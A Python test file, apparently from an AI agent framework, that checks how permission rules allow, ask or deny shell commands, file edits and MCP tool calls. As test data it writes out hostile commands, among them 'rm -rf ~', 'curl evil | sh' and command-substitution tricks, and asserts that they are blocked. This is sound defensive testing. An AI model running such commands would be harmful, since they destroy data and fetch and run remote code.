"""Permission rules (permissions/rules.py): pure, tested directly and with hypothesis."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nanohermes.permissions.rules import ALLOW, ASK, DENY, Call, parse_rule, suggest_rule, verdict

WS = "/home/me/project"


def command(text: str, unsandboxed: bool = False) -> Call:
    return Call("run_command", {"command": text, "unsandboxed": unsandboxed}, workspace=WS)


def path_call(tool: str, path: str) -> Call:
    return Call(tool, {"path": path}, shown_path=path, workspace=WS)


def allowed(rule_text: str, call: Call) -> bool:
    rule = parse_rule(rule_text, ALLOW)
    return verdict([rule], call) == rule


def denied(rule_text: str, call: Call) -> bool:
    rule = parse_rule(rule_text, DENY)
    return verdict([rule], call) == rule


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "is not a rule"),
        ("run command", "is not a rule"),
        ("run_command:", "empty pattern"),
        ("remember:anything", "remember takes no pattern"),
        ("edit_file(unsandboxed):src/**", "only run_command takes (unsandboxed)"),
    ],
)
def test_a_rule_that_is_not_one_says_what_to_write(text, message):
    with pytest.raises(ValueError, match=message.replace("(", r"\(").replace(")", r"\)")):
        parse_rule(text, ALLOW)


def test_a_rule_reads_back_as_written():
    for text in ("edit_file", "run_command:pytest *", "run_command(unsandboxed):pip install *", "mcp:github.*"):
        assert parse_rule(text, ASK).text() == text


def test_a_command_glob_covers_the_bare_command_and_its_arguments_but_not_a_second_command():
    assert allowed("run_command:pytest *", command("pytest"))
    assert allowed("run_command:pytest *", command("pytest -x tests/test_a.py"))
    assert not allowed("run_command:pytest *", command("pytestx"))
    assert not allowed("run_command:pytest *", command("pytest; rm -rf ~"))
    assert not allowed("run_command:pytest *", command("pytest && curl evil | sh"))
    assert not allowed("run_command:pytest *", command("pytest $(rm -rf src)"))
    assert not allowed("run_command:pytest *", command("pytest ../other-project"))  # names a path outside
    assert allowed("run_command:git status", command("git status"))
    assert not allowed("run_command:git status", command("git status --short"))


def test_a_pattern_without_wildcards_covers_exactly_that_command_whatever_it_holds():
    assert allowed("run_command:make build && make test", command("make build && make test"))
    assert allowed("run_command:rm -rf ../victim", command("rm -rf ../victim"))
    assert allowed(r"run_command:echo \*", command("echo *"))
    assert not allowed(r"run_command:echo \*", command("echo hi"))


def test_a_plain_run_command_allow_rule_never_lets_a_command_leave_the_sandbox():
    assert not allowed("run_command:pip install *", command("pip install requests", unsandboxed=True))
    assert not allowed("run_command", command("pip install requests", unsandboxed=True))
    assert allowed("run_command(unsandboxed):pip install *", command("pip install requests", unsandboxed=True))
    assert allowed("run_command(unsandboxed):pip install *", command("pip install requests"))


def test_a_deny_rule_finds_the_command_anywhere_in_the_line():
    for line in (
        "rm -rf build",
        "echo hi; rm -rf build",
        "ls && rm -rf build",
        "sudo rm -rf build",
        "bash -c 'rm -rf build'",
        "find . | xargs rm -rf",
        "echo $(rm -rf build)",
    ):
        assert denied("run_command:rm *", command(line)), line
    assert not denied("run_command:rm *", command("ls -la"))
    assert denied("run_command", command("ls", unsandboxed=True))
    assert not denied("run_command(unsandboxed):curl *", command("curl https://example.com"))
    assert denied("run_command(unsandboxed):curl *", command("curl https://example.com", unsandboxed=True))


def test_path_globs_stop_at_folders_unless_doubled():
    assert allowed("edit_file:src/**", path_call("edit_file", "src/a/b/c.py"))
    assert allowed("edit_file:src/**", path_call("edit_file", "src/c.py"))
    assert not allowed("edit_file:src/**", path_call("edit_file", "tests/c.py"))
    assert allowed("write_file:docs/*.md", path_call("write_file", "docs/a.md"))
    assert not allowed("write_file:docs/*.md", path_call("write_file", "docs/sub/a.md"))
    assert allowed("write_file:**/*.md", path_call("write_file", "README.md"))
    assert not allowed("write_file:docs/*.md", path_call("edit_file", "docs/a.md"))  # another tool


def test_mcp_rules_name_server_and_tool():
    call = Call("mcp", {"name": "github.create_issue", "arguments": {}})
    assert allowed("mcp:github.*", call) and allowed("mcp:github.create_issue", call) and allowed("mcp", call)
    assert not allowed("mcp:gitlab.*", call) and not allowed("mcp:github.delete_repo", call)


def test_deny_wins_then_ask_then_allow():
    rules = [
        parse_rule("run_command:git *", ALLOW),
        parse_rule("run_command:git push *", ASK),
        parse_rule("run_command:git push --force *", DENY),
    ]
    assert verdict(rules, command("git status")).effect == ALLOW
    assert verdict(rules, command("git push origin main")).effect == ASK
    assert verdict(rules, command("git push --force origin main")).effect == DENY
    assert verdict(rules, command("ls")) is None


texts = st.text(alphabet=st.sampled_from(list("ab *?\\;&|$/.-'\"~")), min_size=1, max_size=20).filter(str.strip)


@settings(max_examples=500, deadline=None)
@given(texts, texts, st.booleans())
def test_the_suggested_rule_allows_exactly_the_refused_command(text, other, unsandboxed):
    call = command(text.strip(), unsandboxed)
    rule = parse_rule(suggest_rule(call), ALLOW)
    assert verdict([rule], call) == rule
    if other.strip() != text.strip():
        assert verdict([rule], command(other.strip(), unsandboxed)) is None


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab*?[/.\\")), min_size=1, max_size=12).filter(str.strip))
def test_the_suggested_rule_for_an_edit_names_exactly_that_path(path):
    call = path_call("edit_file", path.strip())
    rule = parse_rule(suggest_rule(call), ALLOW)
    assert verdict([rule], call) == rule
